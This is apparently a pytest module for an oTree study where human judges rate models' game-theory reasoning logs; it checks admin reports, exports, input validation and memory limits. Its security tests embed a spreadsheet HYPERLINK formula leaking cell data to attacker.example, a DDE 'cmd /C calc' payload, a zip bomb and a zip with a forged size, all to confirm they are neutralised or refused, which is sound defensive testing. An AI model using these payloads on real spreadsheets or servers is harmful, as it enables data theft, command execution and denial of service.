"""payoff_reasoning_eval as a lab meets it in the field: the admin report of a finished session, the exports a
researcher joins on, formula text written by a model or a judge, crafted log archives and hurried researchers' keys.

Judges are driven over plain HTTP (as a browser posts the pages), against the shared devserver (``otree_server``).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import urllib.parse
import zipfile
from pathlib import Path

import pytest
import requests

from backend.codebook.reasoning import PROTOCOL_BESIDE
from backend.reasoning.protocol import PROTOCOL_COLUMNS, read_protocol_form
from backend.reasoning.task import IDENTITY_COLUMNS
from harness import PROJECT_ROOT
from harness.participants import Person
from harness.servers import create_session, export_rows, rest, session_start_links

APP = "payoff_reasoning_eval"
SAMPLE_FOLDER = PROJECT_ROOT / "payoff_reasoning_eval" / "logs"
SAMPLE_FILES = sorted(path.name for path in SAMPLE_FOLDER.glob("*.txt"))
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
FORMULA_STARTS = tuple("=+-@\t\r")
MB = 1024 * 1024


class Judge(Person):
    """One judge over plain HTTP: a Prolific-shaped label and the welcome page's study-id cookie."""

    keeps_pages = False

    def __init__(self, link: str, *, pid: str, study_id: str):
        ids = {"pid": pid, "study_id": study_id, "session_id": "S" + pid[:8]}
        super().__init__(
            link, cookies={"study_ids": urllib.parse.quote(json.dumps(ids))}, params={"participant_label": pid}
        )

    def judge_all(self, verdict) -> int:
        """Go through consent and instructions, then judge every log offered with ``verdict(html) -> form``."""
        judged = 0
        for _ in range(40):
            if self.page == "Consent":
                self.submit(dict(consent_given="True"))
            elif self.page == "Instructions":
                self.submit()
            elif self.page == "Judge":
                before = self.url
                self.submit(verdict(self.html))
                assert self.url != before, "a verdict was refused: " + self.html[-2000:]
                judged += 1
            else:
                assert "You have completed the study." in self.html, self.html[-2000:]
                return judged
        raise AssertionError(f"{self.code} never finished (last page {self.url})")


def all_correct(_html: str) -> dict:
    return dict(orig_cor="1", fin_cor="1", err_type="", marked_sentences="", remarks="")


def admin_report(server_url: str, session_code: str) -> tuple[str, list[dict]]:
    """The admin report's HTML and the rows its "Download the protocol CSV" button saves (the embedded CSV text)."""
    html = requests.get(f"{server_url}/AdminReport/{session_code}", timeout=30).text
    payload = html.split('<script type="application/json" id="protocol-csv">')[1].split("</script>")[0]
    return html, list(csv.DictReader(io.StringIO(json.loads(payload)), delimiter=";"))


def export_text(server_url: str, function: str, session_code: str) -> str:
    response = requests.get(
        server_url + "/api/export_app_custom",
        params=dict(app=APP, function_name=function, session_code=session_code),
        timeout=60,
    )
    response.raise_for_status()
    return response.content.decode("utf-8-sig")


def session_codes(server_url: str) -> set[str]:
    return {session["code"] for session in requests.get(server_url + "/api/sessions", timeout=30).json()}


def refusal(server_url: str, **config) -> str:
    """Create a session that must be refused: the HTTP 400 text (and no session left behind)."""
    before = session_codes(server_url)
    response = requests.post(
        server_url + "/api/sessions",
        json=dict(session_config_name=APP, num_participants=2, modified_session_config_fields=config),
        timeout=120,
    )
    assert response.status_code == 400, (response.status_code, response.text[-2000:])
    assert session_codes(server_url) == before
    return response.text


@pytest.fixture(scope="module")
def finished(otree_server):
    """A session of the six sample logs, three judges each judging all six (3 x 6 = 18 judgements, in 6 rounds)."""
    session = create_session(otree_server.url, APP, 3, judges_per_log=3, logs_per_judge=6)
    judges = []
    for number, link in enumerate(session_start_links(otree_server.url, session["code"])):
        pid = f"{number + 1:x}".rjust(24, "a")
        judge = Judge(link, pid=pid, study_id=f"study{number}")
        assert judge.judge_all(all_correct) == 6
        judges.append((judge.code, pid, f"study{number}"))
    return session["code"], judges


def test_the_admin_report_and_its_download_count_every_round_of_every_judge(otree_server, finished):
    code, judges = finished
    html, downloaded = admin_report(otree_server.url, code)
    assert "18 of 18 judgements done" in html
    assert len(downloaded) == 18
    assert sorted(row["file"] for row in downloaded) == sorted(SAMPLE_FILES * 3)
    coverage = re.findall(r"<tr><td>([^<]+)</td><td>(\d+)</td><td>(\d+)</td><td>(\d+)</td></tr>", html)
    assert sorted(coverage) == [(name, "3", "0", "0") for name in SAMPLE_FILES]


def test_the_export_with_identifiers_names_judge_study_session_and_time(otree_server, finished):
    code, judges = finished
    plain = export_rows(otree_server.url, APP, "custom_export", session_code=code)
    with_ids = export_rows(otree_server.url, APP, "custom_export_protocol_with_ids", session_code=code)
    # the protocol's 12 columns first, exactly; the judge, session and time beside them, never inside
    assert list(plain[0])[: len(PROTOCOL_COLUMNS)] == list(PROTOCOL_COLUMNS)
    assert list(plain[0])[len(PROTOCOL_COLUMNS) :] == PROTOCOL_BESIDE
    assert list(with_ids[0])[: len(PROTOCOL_COLUMNS) + len(IDENTITY_COLUMNS)] == [*PROTOCOL_COLUMNS, *IDENTITY_COLUMNS]
    assert len(plain) == len(with_ids) == 18
    assert [{column: row[column] for column in plain[0]} for row in with_ids] == plain
    assert {row["is_test"] for row in plain} == {"0"} and {row["integrity"] for row in plain} == {""}
    expected = {participant: (pid, study, code) for participant, pid, study in judges}
    for row in with_ids:
        assert (row["prolific_pid"], row["study_id"], row["session_code"]) == expected[row["participant_code"]]
        assert ISO_UTC.match(row["judged_at"]), row["judged_at"]
    assert sorted((row["participant_code"], row["file"]) for row in with_ids) == sorted(
        (participant, name) for participant in expected for name in SAMPLE_FILES
    )
    held = export_rows(otree_server.url, APP, "custom_export_assignments", session_code=code)
    assert len(held) == 18 and {row["status"] for row in held} == {"done"}
    finished_at = {(row["participant_code"], row["file"]): row["finished_at"] for row in held}
    for row in with_ids:  # the judgement's time is the assignment's finishing time
        assert finished_at[(row["participant_code"], row["file"])] == row["judged_at"]
    for row in held:
        assert ISO_UTC.match(row["reserved_at"]) and row["reserved_at"] <= row["finished_at"]
        assert (row["prolific_pid"], row["study_id"], row["session_code"]) == expected[row["participant_code"]]


FORMULA_LOG = (
    "###ATTEMPT##0~\nRESPONSE##\n"
    '=HYPERLINK("http://attacker.example/?leak="&A1, "5") is what R pays me. +1 for B. {B}~\n\n'
    "PREDICATES##\n~\n"
)
FORMULA_REMARK = "@SUM(1+1)*cmd|' /C calc'!A0\n-2 points"


def test_formula_text_from_the_model_and_the_judge_is_neutralised_in_every_download(otree_server, tmp_path):
    name = "formula-model_pd_p1_1_5_0_3_0_5151.txt"
    session = create_session(
        otree_server.url, APP, 1, logs_upload=json.dumps({name: FORMULA_LOG}), judges_per_log=1, consent=False
    )
    [link] = session_start_links(otree_server.url, session["code"])
    judge = Judge(link, pid="b" * 24, study_id="-A1-B1")

    def mark_the_formula(html: str) -> dict:
        assert 'data-id="f0">=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A1' in html
        return dict(orig_cor="0", err_type="pa", marked_sentences="f0#f1", remarks=FORMULA_REMARK)

    assert judge.judge_all(mark_the_formula) == 1
    sentence = '=HYPERLINK("http://attacker.example/?leak="&A1, "5") is what R pays me.#+1 for B.'

    _, [downloaded] = admin_report(otree_server.url, session["code"])
    assert downloaded["sentence"] == "'" + sentence
    assert downloaded["remarks"] == "'@SUM(1+1)*cmd|' /C calc'!A0\\n-2 points"
    for function in ("custom_export", "custom_export_protocol_with_ids"):
        text = export_text(otree_server.url, function, session["code"])
        [header, cells] = list(csv.reader(io.StringIO(text)))
        for cell in cells:  # no cell a spreadsheet would run; numbers stay plain numbers
            assert not cell.startswith(FORMULA_STARTS), (function, cell)
        assert cells[header.index("orig_cor")] == "0" and cells[header.index("attempts")] == "1"
        path = tmp_path / f"{function}.csv"
        path.write_text(text, encoding="utf-8")
        [row] = read_protocol_form(path).to_dict("records")  # read back exactly, with the neutralising ' removed
        assert (row["sentence"], row["remarks"]) == (sentence, FORMULA_REMARK.replace("\n", "\\n"))
    assert cells[header.index("study_id")] == "'-A1-B1"

    # The report CLI reads both exports, with the same figures.
    functions = ("custom_export", "custom_export_protocol_with_ids")
    outputs = [
        subprocess.run(
            [sys.executable, "-m", "backend", "report", str(tmp_path / f"{function}.csv")],
            cwd=PROJECT_ROOT,
            capture_output=True,
            text=True,
            timeout=120,
        )
        for function in functions
    ]
    for result in outputs:
        assert result.returncode == 0, result.stderr[-2000:]
        assert "1 ratings of 1 logs" in result.stdout
    # the same figures; the report names its input file (one line each), which differs
    named = [out.stdout.replace(f"{function}.csv", "<file>") for out, function in zip(outputs, functions, strict=True)]
    assert named[0] == named[1]


def server_peak_rss_kb(server) -> int:
    """The server process's peak resident memory so far (VmHWM), in kB."""
    status = Path(f"/proc/{server.process.pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1])


def test_a_zip_bomb_and_a_lying_zip_are_refused_by_name_without_filling_the_servers_memory(otree_server, tmp_path):
    bomb = tmp_path / "bomb_logs.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in SAMPLE_FOLDER.glob("*.txt"):
            archive.write(path, path.name)
        with archive.open("zeros_pd_p1_1_5_0_3_0_1.txt", "w") as handle:  # 200 MB of zeros, about 200 KB packed
            for _ in range(200):
                handle.write(bytes(MB))
    assert bomb.stat().st_size < MB
    liar = tmp_path / "lying_logs.zip"  # its directory says 900 bytes; the entry unpacks to 30 MB
    with zipfile.ZipFile(liar, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("liar_pd_p1_1_5_0_3_0_1.txt", bytes(30 * MB))
    raw = bytearray(liar.read_bytes())
    central = raw.index(b"PK\x01\x02")
    raw[central + 24 : central + 28] = (900).to_bytes(4, "little")
    liar.write_bytes(bytes(raw))

    peak_before = server_peak_rss_kb(otree_server)
    bomb_refused = refusal(otree_server.url, logs_folder=str(bomb))
    grown_mb = (server_peak_rss_kb(otree_server) - peak_before) / 1024
    assert grown_mb < 40, f"the server's peak memory grew by {grown_mb:.0f} MB"
    assert (
        f"logs_folder '{bomb}' was not read: the entry 'zeros_pd_p1_1_5_0_3_0_1.txt' has 209,715,200 bytes, more "
        "than the 1,000,000 a log may have." in bomb_refused
    )
    liar_refused = refusal(otree_server.url, logs_folder=str(liar))
    assert (
        f"logs_folder '{liar}': the entry 'liar_pd_p1_1_5_0_3_0_1.txt' cannot be unpacked (Bad CRC-32" in liar_refused
    )
    grown_mb = (server_peak_rss_kb(otree_server) - peak_before) / 1024
    assert grown_mb < 40, f"the server's peak memory grew by {grown_mb:.0f} MB"


def test_hurried_researchers_keys_and_files_are_refused_by_name_before_any_row_exists(otree_server, tmp_path):
    assert "The session key 'judges_per_log' must be a whole number from 1 to 100, not 'three'" in refusal(
        otree_server.url, judges_per_log="three"
    )
    assert "The session key 'logs_per_judge' must be a whole number from 1 to 30, not 0" in refusal(
        otree_server.url, logs_per_judge=0
    )
    assert "The session key 'csv_separator' must be one of" in refusal(otree_server.url, csv_separator=":")
    assert "The session key 'extra_games' is not valid JSON: line 2, column 1" in refusal(
        otree_server.url, extra_games='{"bos": {"payoffs": {}},\n}'
    )
    assert "must be two numbers from -1e+06 to 1e+06" in refusal(
        otree_server.url,
        extra_games=json.dumps({"bos": {"payoffs": {"RR": [1e300, 1], "RB": [0, 0], "BR": [0, 0], "BB": [2, 3]}}}),
    )
    folder = tmp_path / "logs"
    folder.mkdir()
    good = (SAMPLE_FOLDER / SAMPLE_FILES[0]).read_text(encoding="utf-8")
    (folder / "windows_pd_p1_1_5_0_3_0_1.txt").write_bytes(b"\xef\xbb\xbf" + good.encode())  # BOM: fine
    (folder / "latin_pd_p1_1_5_0_3_0_2.txt").write_bytes(good.replace("{R}", "{R} \u20ac").encode("cp1252"))
    text = refusal(otree_server.url, logs_folder=str(folder))
    assert "1 log file(s) in logs_folder" in text
    assert "latin_pd_p1_1_5_0_3_0_2.txt is not UTF-8 text: byte 0x80 at line" in text


def test_a_running_session_keeps_its_logs_when_the_files_are_edited_or_removed(otree_server, tmp_path):
    folder = tmp_path / "logs"
    folder.mkdir()
    name = "snapshot_sh_p1_1_3_0_5_0_7.txt"
    (folder / name).write_text("###ATTEMPT##0~\nRESPONSE##\nStag pays 5 when both hunt it. {B}~\n", encoding="utf-8")
    session = create_session(otree_server.url, APP, 2, logs_folder=str(folder), judges_per_log=2, consent=False)
    (folder / name).write_text("###ATTEMPT##0~\nRESPONSE##\nEDITED after creation. {R}~\n", encoding="utf-8")
    first, second = session_start_links(otree_server.url, session["code"])
    seen = []

    def remember(html: str) -> dict:
        seen.append(html)
        return all_correct(html)

    assert Judge(first, pid="c" * 24, study_id="s").judge_all(remember) == 1
    shutil.rmtree(folder)
    assert Judge(second, pid="d" * 24, study_id="s").judge_all(remember) == 1
    for html in seen:
        assert "Stag pays 5 when both hunt it." in html and "EDITED" not in html


def test_a_nul_in_the_remarks_is_kept_as_a_replacement_character_not_a_server_error(otree_server):
    # PostgreSQL cannot store NUL: the form failed with HTTP 500 there and the verdict was lost.
    session = create_session(otree_server.url, APP, 1, judges_per_log=1, logs_per_judge=1, consent=False)
    [link] = session_start_links(otree_server.url, session["code"])
    judge = Judge(link, pid="c" * 24, study_id="study-nul")

    def verdict_with_nul(_html: str) -> dict:
        return dict(all_correct(_html), remarks="before\x00after")

    assert judge.judge_all(verdict_with_nul) == 1
    [row] = csv.DictReader(io.StringIO(export_text(otree_server.url, "custom_export", session["code"])))
    assert row["remarks"] == "before\ufffdafter"


def test_uploaded_logs_are_not_repeated_in_every_row_of_the_wide_export(otree_server):
    uploads = {path.name: path.read_text(encoding="utf-8") for path in sorted(SAMPLE_FOLDER.glob("*.txt"))}
    upload = json.dumps(uploads)
    assert len(upload) > 5000
    session = create_session(otree_server.url, APP, 4, logs_upload=upload, judges_per_log=1, logs_per_judge=1)
    response = rest(otree_server.url, "GET", "/api/export_wide", params={"session_code": session["code"]})
    response.raise_for_status()
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    cells = {row["session.config.logs_upload"] for row in rows}
    assert cells == {f"[{len(upload):,} characters: kept with the session, shortened in this export]"}
    assert max(len(cell) for row in rows for cell in row.values()) < 1000  # was a copy of the upload per row
